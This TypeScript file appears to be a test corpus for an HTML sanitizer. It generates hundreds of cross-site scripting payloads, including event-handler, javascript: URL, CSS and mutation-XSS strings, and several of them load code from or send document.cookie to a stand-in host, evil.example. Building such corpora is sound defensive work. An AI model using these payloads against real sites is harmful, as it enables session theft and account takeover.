/**
 * Markup that tries to run a script, by the techniques that the public lists collect (OWASP's filter evasion sheet, html5sec,
 * PortSwigger's event handlers, mutation XSS): each technique is written once and multiplied.
 */

const CALLS = ['alert(1)', 'alert`1`', 'fetch("//evil.example/"+document.cookie)', "top['al'+'ert'](1)", '&#97;lert(1)', 'eval(atob("YWxlcnQoMSk="))']

const EVENTS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'onanimationend', 'ontransitionend', 'ontoggle',
  'onpointerenter', 'onpointerrawupdate', 'onbeforeinput', 'onwheel', 'onscroll', 'onscrollend', 'oncontentvisibilityautostatechange',
  'onbeforetoggle', 'onpageshow', 'onhashchange', 'onbegin', 'onfinish', 'onstart', 'onauxclick', 'ondragstart', 'onpaste', 'onsearch',
]

const TAGS = [
  'img src=x', 'svg', 'body', 'iframe', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'marquee', 'select autofocus',
  'textarea autofocus', 'object data=x', 'embed src=x', 'p', 'a href=#', 'h1', 'u', 'li', 'strong', 'x-custom', 'math', 'svg><animate', 'style',
]

const events = EVENTS.flatMap((event, index) => {
  const call = CALLS[index % CALLS.length] ?? ''
  return TAGS.filter((_, at) => (at + index) % 3 === 0).map((tag) => `<${tag} ${event}='${call}'>text`)
})

const JAVASCRIPT = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6A;&#x61;vascript:alert(1)', '&#0000106avascript:alert(1)',
  'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript://%0aalert(1)', 'javascript:/*http://*/alert(1)', 'vbscript:msgbox(1)',
  'livescript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/1', 'filesystem:https://evil.example/1', 'file:///etc/passwd', 'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'jar:http://evil.example!/x',
  '//evil.example', '/\\evil.example', 'intent://evil.example#Intent;end', '\u202ejavascript:alert(1)', 'j\u00adavascript:alert(1)', 'javascript\u2028:alert(1)', 'x-javascript:alert(1)',
]

const links = JAVASCRIPT.flatMap((address) => [
  `<a href="${address.replaceAll('"', '&quot;')}">text</a>`,
  `<a href='${address.replaceAll("'", '&#39;')}' target=_self rel=opener>text</a>`,
  `<a xlink:href="${address.replaceAll('"', '&quot;')}">text</a>`,
])

const STYLES = [
  'background:url(javascript:alert(1))', 'width:expression(alert(1))', 'behavior:url(x.htc)', '-moz-binding:url(//evil.example/x#y)', 'position:fixed;inset:0',
  'text-align:center;background:url(//evil.example)', 'text-align:expression(alert(1))', 'text-align:center\\;color:red', 'te\\78t-align:left', '@import"//evil.example"',
  'text-align:left;}*{color:red', 'text-align:/**/justify', 'text-align:url(//evil.example)', 'font-family:"\\22 onload=\\22 alert(1)"',
]

const styles = STYLES.flatMap((style) => [`<p style='${style}'>text</p>`, `<div style='${style}'>text</div>`, `<li style='${style}'>text</li>`])

const containers = [
  '<script>alert(1)</script>text', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>text', '<scr<script>ipt>alert(1)</scr</script>ipt>text', '<script/xss src=//evil.example>text',
  '<<script>alert(1);//<</script>text', '<script\u0000>alert(1)</script>text', '<style>@import "//evil.example"</style>text', '<link rel=stylesheet href=//evil.example>text',
  '<meta http-equiv=refresh content="0;javascript:alert(1)">text', '<base href="javascript:alert(1)//">text', '<iframe srcdoc="<script>alert(1)</script>">text</iframe>text',
  '<object data="javascript:alert(1)">text</object>', '<embed src="javascript:alert(1)">text', '<form action=javascript:alert(1)><button>text</button></form>',
  '<button formaction=javascript:alert(1)>text</button>', '<isindex type=image src=1 onerror=alert(1)>text', '<input type=image src=x onerror=alert(1)>text', '<table background="javascript:alert(1)"><td>text',
  '<template><img src=x onerror=alert(1)></template>text', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">text', '<xmp><img src=x onerror=alert(1)></xmp>text',
  '<svg><script>alert&#40;1)</script></svg>text', '<svg><style><img src=x onerror=alert(1)></style></svg>text', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">text',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">text', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">text',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>text', '<p><svg><foreignObject><p><style><p title="</style><iframe onload=alert(1)>">text',
  '<!--><img src=x onerror=alert(1)>-->text', '<!-- --!><img src=x onerror=alert(1)>text', '<![CDATA[><img src=x onerror=alert(1)>]]>text', '<?xml version="1.0"?><p>text</p>', '<?php echo 1 ?><p>text</p>',
  '<p title="><img src=x onerror=alert(1)>">text</p>', '<p a="`><img src=x onerror=alert(1)>`">text', "<p a='\"><script>alert(1)</script>'>text", '<a href="http://ok.example" onclick="alert(1)" style="color:red">text</a>',
  '<a href="http://ok.example&quot; onmouseover=&quot;alert(1)">text</a>', '<a href=`javascript:alert(1)`>text</a>', '<a/href=javascript:alert(1)>text</a>', '<a href="http://a" href="javascript:alert(1)">text</a>',
  '<p <img src=x onerror=alert(1)>text', '<p/onclick=alert(1)>text', '<p\fonclick=alert(1)>text', '</p onclick=alert(1)>text', '<p id=cookie name=body class=x data-x=1>text</p>', '<img name=getElementById>text',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;', '%3Cscript%3Ealert(1)%3C/script%3E', '\\u003cscript\\u003ealert(1)', '＜script＞alert(1)＜/script＞', '<p>{{constructor.constructor("alert(1)")()}}</p>',
  '<p is="x" slot="y">text</p>', '<slot name=x>text</slot>', '<dialog open onclose=alert(1)>text</dialog>', '<portal src=//evil.example>text', '<frameset onload=alert(1)><frame src=x>text', '<plaintext>text<img src=x onerror=alert(1)>',
  `${'<ul><li>'.repeat(400)}text`, `${'<p>'.repeat(2000)}text`, `<a href="http://${'a'.repeat(5000)}">text</a>`, '<b><i><u></b></i></u><h1>text', '<h1><h2><p>text',
]

export const ATTACK_STRINGS: readonly string[] = [...events, ...links, ...styles, ...containers]
